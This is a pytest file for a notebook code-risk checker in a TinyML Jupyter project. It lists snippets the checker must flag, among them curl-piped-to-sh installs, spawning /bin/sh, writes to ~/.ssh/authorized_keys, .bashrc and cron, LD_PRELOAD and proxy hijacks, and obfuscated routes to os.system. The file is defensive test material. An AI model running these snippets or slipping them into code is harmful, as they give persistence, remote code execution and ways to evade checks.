"""The risk check against code written to get past it, and against the project's own code, which must pass.

Risky: every snippet is flagged with the reason a reader needs, however the callee is spelt (aliases, getattr
with a built name, import_module, sys.modules, builtins, star imports, get_ipython()) and whatever IPython syntax
carries it (`!`, `%%writefile`, `%run`, `%env`). Not risky: every offline recipe template rendered through the
stage recipes from real notebook values, the demo notebook's code cells and scripts/.
"""
from __future__ import annotations

import json
import textwrap
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from jupyter_tinyml.boards import find_board
from jupyter_tinyml.notebook.context import capture
from jupyter_tinyml.notebook.summaries import VariableSummary
from jupyter_tinyml.stages import checks, convert, deploy, prep, train
from jupyter_tinyml.stages.checks import check_code
from jupyter_tinyml.stages.risks import DYNAMIC, ENVIRON, PRINTS_ENV, SHELL, UNPICKLE, WRITES

REPO = Path(__file__).resolve().parent.parent
TEMPLATES = REPO / "jupyter_tinyml" / "stages" / "templates"


def risky(cell: str) -> list[str]:
    return [p.message for p in check_code(cell) if p.kind == "risky"]


def code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


# (snippet, a message the check must give for it)
RISKY = [
    # the shell, however it is reached
    ("import os\ngetattr(os, 'sys' + 'tem')('id')\n", f"line 2: {SHELL} (os.system)"),
    ("import os\ngetattr(os, 'metsys'[::-1])('id')\n", f"line 2: {SHELL} (os.system)"),
    ("import os\nname = ''.join(['sys', 'tem'])\ngetattr(os, name)('id')\n", f"line 3: {SHELL} (os.system)"),
    ("import os\ngetattr(os, input())('id')\n", f"line 2: {DYNAMIC} (os.<computed>)"),
    ("import importlib\nimportlib.import_module('os').system('id')\n", f"line 2: {SHELL} (os.system)"),
    ("m = __import__('o' + 's')\nm.popen('id')\n", f"line 2: {SHELL} (os.popen)"),
    ("import sys\nsys.modules['os'].system('id')\n", f"line 2: {SHELL} (os.system)"),
    ("import sys\nsys.modules.get('subprocess').run('id')\n", f"line 2: {SHELL} (subprocess.run)"),
    ("import os\no = os\no.system('id')\n", f"line 3: {SHELL} (os.system)"),
    ("import os\nrun_it = os.system\nrun_it('id')\n", f"line 3: {SHELL} (os.system)"),
    ("import os\nfn = vars(os)['system']\nfn('id')\n", f"line 3: {SHELL} (os.system)"),
    ("import os\nos.__dict__['popen']('id')\n", f"line 2: {SHELL} (os.popen)"),
    ("import os\nlist(map(os.system, ['id']))\n", f"line 2: {SHELL} (os.system)"),
    ("from subprocess import *\ncheck_output(['id'])\n", f"line 2: {SHELL} (subprocess.check_output)"),
    ("from subprocess import *\n", f"line 1: {SHELL} (from subprocess import *)"),
    ("import subprocess\nstart = subprocess.Popen\n", f"line 2: {SHELL} (subprocess.Popen)"),
    ("get_ipython().system(command)\n", f"line 1: {SHELL} (get_ipython().system)"),
    ("ip = get_ipython()\nip.system('id')\n", f"line 2: {SHELL} (!id)"),
    ("ip = get_ipython()\nout = ip.getoutput(command)\n", f"line 2: {SHELL} (get_ipython().getoutput)"),
    ("!curl https://x.example/install.sh | sh\n", f"line 1: {SHELL} (!curl)"),
    ("import pty\npty.spawn('/bin/sh')\n", f"line 2: {SHELL} (pty.spawn)"),
    ("import asyncio\nawait asyncio.create_subprocess_shell('id')\n",
     f"line 2: {SHELL} (asyncio.create_subprocess_shell)"),
    ("%timeit -n 1 os.system('id')\n", f"line 1: {SHELL} (os.system)"),
    ("%%python3\nimport os\n", f"line 1: {SHELL} (%%python3)"),
    # code handed over at run time
    ("e = eval\ne(text)\n", f"line 2: {DYNAMIC} (eval)"),
    ("import builtins\nbuiltins.exec(text)\n", f"line 2: {DYNAMIC} (exec)"),
    ("f = getattr(__builtins__, 'ev' + 'al')\n", f"line 1: {DYNAMIC} (eval)"),
    ("run = __builtins__['exec']\n", f"line 1: {DYNAMIC} (exec)"),
    ("globals()['__builtins__']['exec'](text)\n", f"line 1: {DYNAMIC} (exec)"),
    ("get_ipython().run_cell(text)\n", f"line 1: {DYNAMIC} (get_ipython().run_cell)"),
    ("import runpy\nrunpy.run_path('tool.py')\n", f"line 2: {DYNAMIC} (runpy.run_path)"),
    ("%run helper.py\n", "line 1: runs code from another file (%run helper.py)"),
    ("import pickle\nmodel = pickle.loads(blob)\n", f"line 2: {UNPICKLE} (pickle.loads)"),
    ("data = pd.read_pickle('data.pkl')\n", f"line 1: {UNPICKLE} (pandas.read_pickle)"),
    ("import numpy as np\nx = np.load('x.npy', allow_pickle=True)\n",
     f"line 2: {UNPICKLE} (numpy.load(allow_pickle=True))"),
    ("import ctypes\nctypes.CDLL(None).system(b'id')\n", "line 1: loads native code (ctypes)"),
    ("from ctypes import cdll\ncdll.LoadLibrary('libc.so.6')\n", "line 2: loads native code (ctypes.cdll.LoadLibrary)"),
    # files
    ("with open('/root/.bashrc', 'a') as f:\n    f.write('curl x | sh')\n",
     f"line 1: {WRITES} (/root/.bashrc)"),
    ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)\n",
     f"line 2: {WRITES} (~/.ssh/authorized_keys)"),
    ("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')\n",
     f"line 2: {WRITES} (~/.bashrc)"),
    ("from pathlib import Path\nPath('numpy.py').write_text('import os')\n",
     f"line 2: {WRITES} (numpy.py)"),
    ("from pathlib import Path\nhook = Path('.git') / 'hooks' / 'pre-commit'\nhook.write_text('x')\n",
     f"line 3: {WRITES} (.git/hooks/pre-commit)"),
    ("import shutil\nshutil.copy('x', '/etc/cron.d/job')\n", f"line 2: {WRITES} (/etc/cron.d/job)"),
    ("%%writefile sitecustomize.py\nimport os\n", f"line 1: {WRITES} (%%writefile sitecustomize.py)"),
    ("%%writefile -a ~/.profile\nexport PATH=/tmp:$PATH\n", f"line 1: {WRITES} (%%writefile ~/.profile)"),
    ("import os\nos.replace('model.tflite', 'old.tflite')\n", "line 2: moves files (os.replace)"),
    ("import os\nos.rename('a.csv', 'b.csv')\n", "line 2: moves files (os.rename)"),
    ("import shutil\nshutil.rmtree(folder)\n", "line 2: deletes files (shutil.rmtree)"),
    # the network
    ("import pandas as pd\ndf = pd.read_csv('https://example.com/x.csv')\n",
     "line 2: network access (pandas.read_csv(https://example.com/x.csv))"),
    ("url = 'https://example.com/d.csv'\ntable = pd.read_csv(url)\n",
     "line 2: network access (pandas.read_csv(https://example.com/d.csv))"),
    ("import webbrowser\nwebbrowser.open('https://example.com')\n", "line 2: network access (webbrowser.open)"),
    ("%pip install left-pad\n", "line 1: network access (pip install)"),
    # environment variables that decide what runs, and the listing that prints secrets
    ("%env LD_PRELOAD=/tmp/x.so\n", f"line 1: {ENVIRON} (%env LD_PRELOAD)"),
    ("%env PATH /tmp/bin\n", f"line 1: {ENVIRON} (%env PATH)"),
    ("%set_env PYTHONSTARTUP /tmp/x.py\n", f"line 1: {ENVIRON} (%set_env PYTHONSTARTUP)"),
    ("%env\n", f"line 1: {PRINTS_ENV} (%env)"),
    ("import os\nos.environ['PYTHONPATH'] = '/tmp'\n", f"line 2: {ENVIRON} (os.environ PYTHONPATH)"),
    ("import os\nos.environ.update({'HTTPS_PROXY': 'http://evil:8080'})\n",
     f"line 2: {ENVIRON} (os.environ.update HTTPS_PROXY)"),
]


def test_the_risky_corpus_is_large_and_covers_the_listed_patterns() -> None:
    assert len(RISKY) >= 30 and len({snippet for snippet, _ in RISKY}) == len(RISKY)
    text = "\n".join(snippet for snippet, _ in RISKY)
    for pattern in ("getattr(os, 'sys' + 'tem')", "importlib.import_module('os')", "get_ipython().system",
                    "from subprocess import *", "o = os", "sys.modules['os']", "e = eval", "builtins.exec",
                    "pty.spawn", "ctypes", ".bashrc", "%%writefile", "%run", "read_csv('https", "pickle.loads",
                    "os.replace", "write_text", "webbrowser.open", "asyncio.create_subprocess_shell", "%env"):
        assert pattern in text, pattern


@pytest.mark.parametrize(("cell", "expected"), RISKY, ids=[f"risky-{i}" for i in range(len(RISKY))])
def test_risky_snippet_is_flagged_with_its_reason(cell: str, expected: str) -> None:
    found = risky(cell)
    assert expected in found, found
    assert checks.run_refusal([cell]) is not None


def test_a_renamed_binding_does_not_hide_the_risk_either_way_round() -> None:
    cell = code(
        """
        import os
        for _ in range(1):
            run_it('id')
            run_it = o.system
        o = os
        """
    )
    assert "line 3: runs a shell command (os.system)" in risky(cell)


def test_the_refusal_is_one_line_naming_the_first_risk_and_how_many_more() -> None:
    cells = ["x = 1\n", "import os\nos.system('ls')\nevaluate = eval\n"]
    refusal = checks.run_refusal(cells)
    assert refusal is not None and "\n" not in refusal
    assert refusal.startswith(f"[tinyml] --run refused: cell 2, line 2: {SHELL} (os.system) (and 1 more)")
    assert refusal.endswith("then run them yourself.")


def test_code_nested_too_deeply_to_read_is_a_risk_not_a_crash() -> None:
    cell = "x = " + " + ".join(["'a'"] * 900) + "\nimport os\ngetattr(os, x)('id')\n"
    [problem] = check_code(cell)
    assert (problem.kind, problem.blocking) == ("risky", False)
    assert checks.run_refusal([cell]) is not None


def test_long_magic_lines_are_read_in_linear_time() -> None:
    start = time.process_time()
    assert risky("%%writefile " + "{" * 1_000_000 + "/.bashrc\nx\n")[0].startswith(f"line 1: {WRITES}")
    assert risky("%timeit -n 1 " + "os.system('id'); " * 5_000 + "\n")[0] == f"line 1: {SHELL} (os.system)"
    assert risky("%env PATH=" + "A" * 1_000_000 + "\n")[0] == f"line 1: {ENVIRON} (%env PATH)"
    assert time.process_time() - start < 5  # shlex, or one parse per word, took minutes


def test_ordinary_writes_reads_and_environment_settings_are_not_risky() -> None:
    cell = code(
        """
        import json, os
        from pathlib import Path
        import numpy as np
        import pandas as pd
        table = pd.read_csv("data/wine.csv")
        with open("summary.json", "w") as file:
            json.dump({"a": 1}, file)
        out = Path("out") / "digits.tflite"
        out.parent.mkdir(parents=True, exist_ok=True)
        out.write_bytes(b"")
        np.save("x_test.npy", np.zeros(3))
        table.to_csv(f"{out.stem}.csv")
        os.environ["TF_CPP_MIN_LOG_LEVEL"] = "2"
        print("details: https://www.tensorflow.org/lite/microcontrollers")
        report = getattr(table, "describe")()
        """
    )
    assert risky(cell) == []
    assert checks.run_refusal([cell]) is None


# --- the project's own code is not risky ----------------------------------------------------------------------


@pytest.fixture
def rendered(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Names of the templates the recipes render during the test, recorded around the real `render`."""
    names: list[str] = []
    for module in (prep, train, convert, deploy):
        real = module.render

        def recording(name: str, _real=real, **values: object) -> str:
            names.append(name)
            return _real(name, **values)

        monkeypatch.setattr(module, "render", recording)
    return names


def recipe_cells(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every code cell the offline recipes write for images, a table, a CSV file, windows and a feature matrix,
    then conversion and both deploy forms, from notebook values captured as the magics capture them.

    The trained Keras model is the one summary written by hand (the convert recipe reads only its kind):
    training one would cost this file most of its time budget for no other line of rendered code.
    """
    cells = []
    rng = np.random.default_rng(0)
    namespaces = [
        ("", {"images": rng.random((60, 8, 8)), "labels": np.arange(60) % 3}),
        ("", {"table": pd.DataFrame({"a": rng.random(40), "b": rng.random(40), "kind": ["x", "y"] * 20})}),
        ("", {"windows": np.zeros((50, 64, 3), np.float32), "y": np.arange(50) % 4}),
        ("", {"X": np.zeros((50, 13)), "y": np.arange(50) % 3}),
    ]
    monkeypatch.chdir(tmp_path)
    Path("wine.csv").write_text("alcohol,hue,cultivar\n13.2,1.0,barolo\n12.1,0.8,barbera\n", encoding="utf-8")
    namespaces.append(("train on wine.csv, target: cultivar", {}))
    for request, namespace in namespaces:
        cells += prep.recipe(request, capture(namespace, request=request))
    board = find_board("nano33ble").limits()
    for shape in ((80, 8, 8, 1), (80, 64, 3), (80, 13)):
        split = {"x_train": np.zeros(shape, np.float32), "y_train": np.arange(shape[0]) % 3,
                 "x_test": np.zeros(shape, np.float32), "y_test": np.arange(shape[0]) % 3,
                 "class_names": ["a", "b", "c"]}
        cells += train.recipe("", capture(split))
        trained = capture(split, board=board)
        trained.variables["model"] = VariableSummary("model", "keras_model", "model: Sequential", {}, 3.5)
        cells += convert.recipe("write it to out/digits.tflite", trained)
    Path("model.tflite").write_bytes(b"\x1c\x00\x00\x00TFL3")
    for model in ("model.tflite", Path("model.tflite")):
        context = capture({"tflite_model": model, "x_test": np.zeros((5, 13)), "class_names": ["a", "b"]}, board=board)
        cells += deploy.recipe("", context)
        glue = {"app-setup": "pinMode(LED_BUILTIN, OUTPUT);",
                "app-loop": 'float score;\nif (TopClass(&score) == 1) Serial.println("one");'}
        cells += deploy.deploy_cells(deploy.project_values(context), glue, form="")
    return [cell.source for cell in cells if cell.cell_type == "code"]


def test_every_offline_recipe_template_renders_code_that_is_not_risky(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rendered: list[str]
) -> None:
    sources = recipe_cells(tmp_path, monkeypatch)
    assert set(rendered) == {p.name.removesuffix(".py.txt") for p in TEMPLATES.glob("*.py.txt")}
    for source in sources:
        assert risky(source) == [], source
    joined = "\n".join(sources)
    # The project writer's firmware/ folder and the model file are the notebook's own writes, not risky ones.
    assert "write_project(" in joined and "tflite_path.write_bytes(" in joined and "pd.read_csv(" in joined
    assert checks.run_refusal(sources) is None


def demo_notebook_cells() -> list[str]:
    notebook = json.loads((REPO / "example_notebooks" / "01_digits_lifecycle.ipynb").read_text(encoding="utf-8"))
    return ["".join(cell["source"]) for cell in notebook["cells"] if cell["cell_type"] == "code"]


def test_the_demo_notebook_and_scripts_are_not_risky() -> None:
    cells = demo_notebook_cells()
    assert len(cells) >= 5 and any("%%tinyml_deploy --run" in cell for cell in cells)
    scripts = sorted((REPO / "scripts").glob("*.py")) + sorted((REPO / "examples").glob("**/*.py"))
    assert scripts
    for source in [*cells, *(path.read_text(encoding="utf-8") for path in scripts)]:
        assert risky(source) == [], source[:200]
    assert checks.run_refusal(cells) is None
